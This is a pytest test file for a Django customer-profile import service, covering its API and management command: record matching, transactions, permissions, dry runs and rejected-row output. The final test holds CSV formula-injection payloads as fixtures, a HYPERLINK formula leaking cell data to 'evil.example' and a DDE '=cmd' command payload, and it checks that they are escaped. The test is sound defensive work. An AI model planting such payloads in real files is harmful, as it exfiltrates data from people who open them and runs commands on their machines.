"""Import with matching: service, API and command."""
import csv
import json
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from rest_framework.test import APIClient

from profiles.models import ChangeRecord, Customer
from profiles.services.imports import import_records
from tests.factories import CustomerFactory

NEW = {"contact_type": "Individual", "preferred_contact_method": 3, "first_name": "Iris", "last_name": "Import",
       "email_address": "iris@example.org", "phone_number": "0117 496 0777", "custom_3": "CRM-1",
       "house": "2", "street": "Dock Road", "postcode": "l18jq"}


def run(records, matching, user, **kwargs):
    return [o.as_dict() for o in import_records(records=records, matching=matching, user=user, channel="api", **kwargs)]


@pytest.mark.parametrize("matching, extra", [("email_address", {}), ("phone_number", {}),
                                              ("custom", {"field_name": "custom_3"})])
def test_no_match_creates_and_the_same_batch_again_changes_nothing(csa, matching, extra):
    first = run([NEW], matching, csa, **extra)
    assert first[0]["status"] == "created"
    records = ChangeRecord.objects.count()
    again = run([NEW], matching, csa, **extra)
    assert again[0] == {**first[0], "status": "unchanged"}
    assert Customer.objects.count() == 1 and ChangeRecord.objects.count() == records
    assert Customer.objects.get().addresses.count() == 1


@pytest.mark.parametrize("matching, key", [("ucrn", "ucrn"), ("email_address", "email_address"),
                                            ("phone_number", "phone_number"), ("custom", "custom_7")])
def test_one_match_runs_the_update_rules(csa, matching, key):
    customer = CustomerFactory(custom_7="LEGACY-9", phone_number="+441174960888")
    match_value = {"ucrn": customer.ucrn, "email_address": customer.email_address.upper(),
                   "phone_number": "0117 496 0888", "custom_7": "LEGACY-9"}[key]
    result = run([{key: match_value, "first_name": "Changed", "postcode": ""}], matching, csa,
                 field_name="custom_7" if matching == "custom" else None, options={"ignore_empty_entries": True})
    assert result[0]["status"] == "updated" and result[0]["ucrn"] == customer.ucrn
    customer.refresh_from_db()
    assert customer.first_name == "Changed" and customer.addresses.get().postcode  # blank ignored
    assert ChangeRecord.objects.filter(customer=customer, channel="api").count() == 1


def test_more_than_one_match_is_an_error_never_a_guess(csa):
    CustomerFactory(custom_1="SAME")
    CustomerFactory(custom_1="SAME")
    result = run([{"custom_1": "SAME", "first_name": "X"}], "custom", csa, field_name="custom_1")
    assert result[0]["status"] == "error" and result[0]["errors"]["custom_1"][0]["code"] == "ambiguous_match"
    assert not Customer.objects.filter(first_name="X").exists()


def test_each_record_is_its_own_transaction(csa):
    bad = {**NEW, "email_address": "bad@example.org", "postcode": "XYZ"}
    result = run([bad, NEW], "email_address", csa)
    assert [r["status"] for r in result] == ["error", "created"]
    assert result[0]["errors"]["postcode"][0]["code"] == "invalid"
    assert list(Customer.objects.values_list("email_address", flat=True)) == ["iris@example.org"]


def test_an_unknown_ucrn_is_an_error_and_a_blank_one_creates(csa):
    result = run([{"ucrn": "123456789", **{k: v for k, v in NEW.items()}}, {**NEW, "ucrn": ""}], "ucrn", csa)
    assert [r["status"] for r in result] == ["error", "created"]


def test_only_csas_import(citizen):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        run([NEW], "email_address", citizen)


def test_the_api(csa):
    api = APIClient()
    api.force_authenticate(csa)
    body = {"matching": "email_address", "records": [NEW, {"first_name": "NoType"}, "not an object"]}
    response = api.post("/api/v1/profiles/import", body, format="json")
    assert response.status_code == 200, response.json()
    assert response.json()["counts"] == {"created": 1, "updated": 0, "unchanged": 0, "error": 2}
    again = api.post("/api/v1/profiles/import/", body, format="json").json()
    assert again["counts"] == {"created": 0, "updated": 0, "unchanged": 1, "error": 2}
    assert api.post("/api/v1/profiles/import", {"matching": "shoe", "records": []}, format="json").status_code == 400
    assert api.post("/api/v1/profiles/import", [1], format="json").status_code == 400


def test_the_api_refuses_citizens(citizen):
    api = APIClient()
    api.force_authenticate(citizen)
    body = {"matching": "email_address", "records": [NEW]}
    assert api.post("/api/v1/profiles/import", body, format="json").status_code == 403
    assert not Customer.objects.filter(email_address="iris@example.org").exists()


def test_the_command_with_csv_and_bad_rows(tmp_path, admin_user):
    path = tmp_path / "people.csv"
    path.write_text("contact_type,preferred_contact_method,first_name,email_address,postcode\n"
                    "Individual,3,Ann,ann@example.org,M1 1AE\n"
                    "Individual,3,Bob,bob@example.org,NOT A POSTCODE\n"
                    ",3,Cy,cy@example.org,\n")
    out, err = StringIO(), StringIO()
    call_command("import_profiles", str(path), "--matching", "email_address", stdout=out, stderr=err)
    assert "1 were created" in out.getvalue() and "2 were error" in out.getvalue()
    assert "3/3" in err.getvalue()  # the progress bar
    rejects = (tmp_path / "people.csv.rejects.csv").read_text()
    assert "Bob" in rejects and "postcode" in rejects and "Cy" in rejects and "Ann" not in rejects
    call_command("import_profiles", str(path), "--matching", "email_address", stdout=out, stderr=StringIO())
    assert Customer.objects.count() == 1


def test_the_command_with_json_lines_and_dry_run(tmp_path, admin_user):
    path = tmp_path / "people.jsonl"
    path.write_text("\n".join(json.dumps({**NEW, "email_address": f"p{n}@example.org"}) for n in range(3)))
    out = StringIO()
    call_command("import_profiles", str(path), "--matching", "email_address", "--dry-run", stdout=out,
                 stderr=StringIO())
    assert "3 would be created" in out.getvalue() and not Customer.objects.exists()
    with pytest.raises(CommandError):
        call_command("import_profiles", str(path), "--matching", "custom", stdout=StringIO(), stderr=StringIO())


def test_the_rejected_rows_never_open_as_formulas(tmp_path, admin_user):
    """A row refused for its postcode still carries what was typed: written as text, not as formulas."""
    path = tmp_path / "people.csv"
    hyperlink = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
    rows = [
        ["contact_type", "preferred_contact_method", "first_name", "last_name", "postcode", "=cmd|' /C calc'!A0"],
        ["Individual", "3", hyperlink, "+SUM(1,2)", "NOT A POSTCODE", "x"],
        ["Individual", "3", "@SUM(1)", "-2+3", "NOT A POSTCODE", "\t=1+1"],
        ["Individual", "3", "Ann", "Smith", "NOT A POSTCODE", "-1.5"],
    ]
    with path.open("w", newline="") as handle:
        csv.writer(handle).writerows(rows)
    call_command("import_profiles", str(path), "--matching", "email_address", stdout=StringIO(), stderr=StringIO())
    with (tmp_path / "people.csv.rejects.csv").open(newline="") as handle:
        header, *written = list(csv.reader(handle))
    assert header[-2:] == ["'=cmd|' /C calc'!A0", "errors"]
    assert written[0][:5] == ["Individual", "3", "'" + hyperlink, "'+SUM(1,2)", "NOT A POSTCODE"]
    assert written[1][2:4] == ["'@SUM(1)", "'-2+3"] and written[1][5] == "'\t=1+1"
    assert written[2][2:4] == ["Ann", "Smith"] and written[2][5] == "-1.5"  # a plain number stays a number
    for row in written:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
        assert "postcode" in row[-1]
